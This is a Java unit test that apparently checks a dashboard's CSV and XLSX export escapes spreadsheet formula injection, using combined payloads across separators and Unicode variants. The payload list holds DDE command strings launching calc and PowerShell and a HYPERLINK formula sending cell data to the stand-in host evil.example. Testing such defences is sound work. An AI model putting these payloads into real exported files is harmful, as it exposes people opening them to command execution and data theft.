package io.panelhouse.dashboard.export;

import static org.assertj.core.api.Assertions.assertThat;

import io.panelhouse.dashboard.export.Download.Format;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.Normalizer;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

@Tag("X5")
class FormulaInjectionTest {

    private static final List<String> STARTS =
            List.of("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b");
    private static final List<String> BEFORE = List.of(
            "", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\"", "'\t", "x;", "x\t", "x\n", "x\";");
    private static final List<String> AFTER = List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "SUM(1;2)*cmd|'/C powershell'!A0");

    @Test
    void noPayloadIsAFormulaWhicheverSeparatorIsAssumed() throws IOException {
        assertThat(payloads()).hasSizeGreaterThanOrEqualTo(500);

        String file = csv(payloads());

        for (char separator : new char[] {',', ';', '\t'}) {
            assertThat(cells(file, separator))
                    .allSatisfy(cell -> assertThat(startsFormula(cell))
                            .as("%s read with %s", cell, separator)
                            .isFalse());
        }
    }

    @Test
    void anotherReaderGetsEveryPayloadBackButForApostrophes() throws IOException {
        List<String> read = cells(csv(payloads()), ',').stream()
                .skip(1)
                .map(cell -> cell.replace("'", ""))
                .toList();

        assertThat(read)
                .containsExactlyElementsOf(payloads().stream()
                        .map(payload -> payload.replace("'", ""))
                        .toList());
    }

    @Test
    void anXlsxHoldsTextsAndNoFormula(@TempDir Path folder) throws IOException {
        Path file = folder.resolve("list.xlsx");
        try (OutputStream stream = Files.newOutputStream(file)) {
            Download.write(sheet(payloads()), Format.XLSX, stream);
        }

        String xml = firstWorksheet(file);

        assertThat(xml).doesNotContain("<f>", "<f ");
        assertThat(xml.split("t=\"inlineStr\"", -1)).hasSize(payloads().size() + 2);
    }

    @Test
    void ordinaryTextsStayAsTheyAre() {
        for (String text : List.of("mk-2041", "a, -b", "Müller & Söhne", "5 + 5", "it's", "", "x; y", "12:30")) {
            assertThat(SafeText.of(text)).isEqualTo(text);
        }
        assertThat(SafeText.of("+44 7700 900117")).isEqualTo("'+44 7700 900117");
    }

    private static List<String> payloads() {
        List<String> payloads = new ArrayList<>();
        for (String start : STARTS) {
            for (String before : BEFORE) {
                AFTER.forEach(after -> payloads.add(before + start + after));
            }
        }
        return payloads;
    }

    private static Sheet<String> sheet(List<String> rows) {
        return new Sheet<>("list", ZoneOffset.UTC, List.of(new Sheet.Column<>("Name", row -> row)), rows::forEach);
    }

    private static String csv(List<String> rows) throws IOException {
        ByteArrayOutputStream file = new ByteArrayOutputStream();
        Download.write(sheet(rows), Format.CSV, file);
        String text = file.toString(StandardCharsets.UTF_8);
        assertThat(text).startsWith("\ufeff");
        return text.substring(1);
    }

    /** As spreadsheets read: a quote opens a cell only at its beginning, and what follows its end belongs to it. */
    private static List<String> cells(String file, char separator) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < file.length(); i++) {
            char c = file.charAt(i);
            if (quoted && c == '"' && i + 1 < file.length() && file.charAt(i + 1) == '"') {
                cell.append('"');
                i++;
            } else if (c == '"' && (quoted || cell.isEmpty())) {
                quoted = !quoted;
            } else if (!quoted && (c == separator || c == '\n')) {
                cells.add(cell.toString());
                cell.setLength(0);
            } else if (quoted || c != '\r') {
                cell.append(c);
            }
        }
        return cells;
    }

    private static boolean startsFormula(String cell) {
        String plain = Normalizer.normalize(cell, Normalizer.Form.NFKC).replaceFirst("^[\\p{Z}\\p{C}\"]+", "");
        return !plain.isEmpty() && "=+-@".indexOf(plain.charAt(0)) >= 0;
    }

    private static String firstWorksheet(Path file) throws IOException {
        try (ZipFile zip = new ZipFile(file.toFile())) {
            ZipEntry sheet = zip.getEntry("xl/worksheets/sheet1.xml");
            return new String(zip.getInputStream(sheet).readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
